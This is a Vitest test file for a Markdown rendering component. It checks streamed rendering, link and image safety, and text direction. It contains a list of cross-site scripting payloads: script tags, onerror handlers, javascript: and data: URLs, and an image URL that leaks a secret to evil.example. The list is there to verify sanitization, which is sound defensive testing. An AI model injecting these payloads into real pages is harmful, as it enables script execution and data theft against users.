// @vitest-environment happy-dom
import { describe, expect, test } from 'vitest';
import { Markdown } from '../../src/markdown/markdown';
import { drawn } from './drawing';
import { corpus } from './markdown_corpus';

/** The elements of a text; formulas are typeset later and not compared. */
async function shown(text: string, isLive = false): Promise<HTMLElement> {
  return (await drawn(<Markdown text={text} isLive={isLive} />)).page;
}

function markup(page: HTMLElement): string {
  return page.innerHTML.replace(/ (?:id|aria-labelledby)="[^"]*"/g, '');
}

describe.each(Object.entries(corpus))('%s', (_name, text) => {
  test('streamed in pieces it ends with the elements of one drawing', async () => {
    const whole = markup(await shown(text));
    const { page, draw } = await drawn(<Markdown text="" isLive />);
    const growing = async (end: number): Promise<void> => {
      await draw(<Markdown text={text.slice(0, end)} isLive />);
      if (end < text.length) await growing(end + 1 + ((end * 7) % 11));
    };
    await growing(1);

    await draw(<Markdown text={text} isLive={false} />);

    expect(markup(page)).toBe(whole);
  });
});

const attacks = [
  '<script>globalThis.hit = 1</script>',
  '<img src=x onerror="globalThis.hit = 1">',
  '<svg><script>globalThis.hit = 1</script></svg>',
  '<iframe srcdoc="<script>hit()</script>"></iframe>',
  '<a href="javascript:globalThis.hit=1">x</a>',
  '[x](javascript:globalThis.hit=1)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x][1]\n\n[1]: javascript:globalThis.hit=1',
  '![x](javascript:globalThis.hit=1)',
  '![x](https://evil.example/?q=secret)',
  '<javascript:globalThis.hit=1>',
  '```html\n<script>globalThis.hit = 1</script>\n```',
  '```"><img src=x onerror=hit()>\nx\n```',
  '| <img src=x onerror=hit()> |\n|-|\n| <svg onload=hit()> |',
  '$\\href{javascript:globalThis.hit=1}{x}$',
  '- <style>*{display:none}</style>',
  '[x](https://a.example "\\" onmouseover=\\"hit()")',
];

describe('an attack makes no element, no handler and no request', () => {
  test.each(attacks.flatMap((text) => [[text, false], [text, true]] as const))('%j, live: %s', async (text, isLive) => {
    const page = await shown(text, isLive);

    const all = [...page.querySelectorAll('*')];
    expect(page.querySelectorAll('script, iframe, img, style, object, embed, form, svg:not(.icon)').length).toBe(0);
    expect(all.flatMap((element) => element.getAttributeNames()).filter((name) => name.startsWith('on'))).toEqual([]);
    for (const link of page.querySelectorAll('a')) expect(link.protocol).toMatch(/^https?:$/);
  });
});

test('a link opens elsewhere, tells nothing of this page, and shows its host', async () => {
  const page = await shown('See [the bank](https://evil.example/x).');

  const link = page.querySelector('a');
  expect(link?.rel).toBe('noopener noreferrer');
  expect(link?.target).toBe('_blank');
  expect(page.textContent).toContain('(evil.example)');
});

test('a bare address is shown once', async () => {
  expect((await shown('<https://a.example/x>')).textContent).toBe('https://a.example/x');
});

test('a remote image is a link that says where it leads', async () => {
  const page = await shown('![a cat](https://d.example/cat.png)');

  const link = page.querySelector('a');
  expect(link?.getAttribute('referrerpolicy')).toBe('no-referrer');
  expect(link?.textContent).toContain('a cat');
  expect(link?.textContent).toContain('d.example');
});

test('raw HTML is read as text', async () => {
  expect((await shown('a <b>bold</b> move')).textContent).toBe('a <b>bold</b> move');
});

test('the settled beginning of an answer keeps its elements', async () => {
  const { page, draw } = await drawn(<Markdown text={'# One\n\nTwo\n\nThr'} isLive />);
  const before = [...page.querySelectorAll('h3, p')].slice(0, 2);

  await draw(<Markdown text={'# One\n\nTwo\n\nThree\n\n- four'} isLive />);
  await draw(<Markdown text={'# One\n\nTwo\n\nThree\n\n- four'} isLive={false} />);

  expect([...page.querySelectorAll('h3, p')].slice(0, 2)).toEqual(before);
  expect(before[0]?.isConnected).toBe(true);
});

test('code keeps its bytes, however long it is', async () => {
  const code = Array.from({ length: 200 }, (_each, index) => `line ${index} <&> \t é`).join('\n');

  const page = await shown(`\`\`\`none\n${code}\n\`\`\``);

  expect(page.querySelector('pre code')?.textContent).toBe(code);
});

test('finished code gets its colours', async () => {
  const page = await shown('```js\nconst a = 1;\n```');

  await expect.poll(() => page.querySelector('.hljs-keyword')?.textContent).toBe('const');
});

test('the headings of an answer stand below those of the page', async () => {
  const page = await shown('# A\n\n###### B');

  expect([...page.querySelectorAll('h3, h6')].map((heading) => heading.textContent)).toEqual(['A', 'B']);
});

test('a nesting deeper than any reader follows is shown as text', async () => {
  const page = await shown(`${'> '.repeat(60)}deep`);

  expect(page.querySelectorAll('blockquote').length).toBeLessThan(30);
  expect(page.textContent).toContain('deep');
});

test('a block goes the way of its first letter, and code and formulas from left to right', async () => {
  const page = await shown('שלום, conch\n\n- פריט\n  - inner\n\n> ציטוט\n\n```js\n1\n```\n\n$a$');

  const ways = [...page.querySelectorAll('.blocks > *, [dir]')].map((each) => `${each.tagName} ${each.getAttribute('dir')}`);
  expect(ways).toEqual(['P auto', 'UL auto', 'BLOCKQUOTE auto', 'FIGURE ltr', 'P auto', 'SPAN ltr']);
});
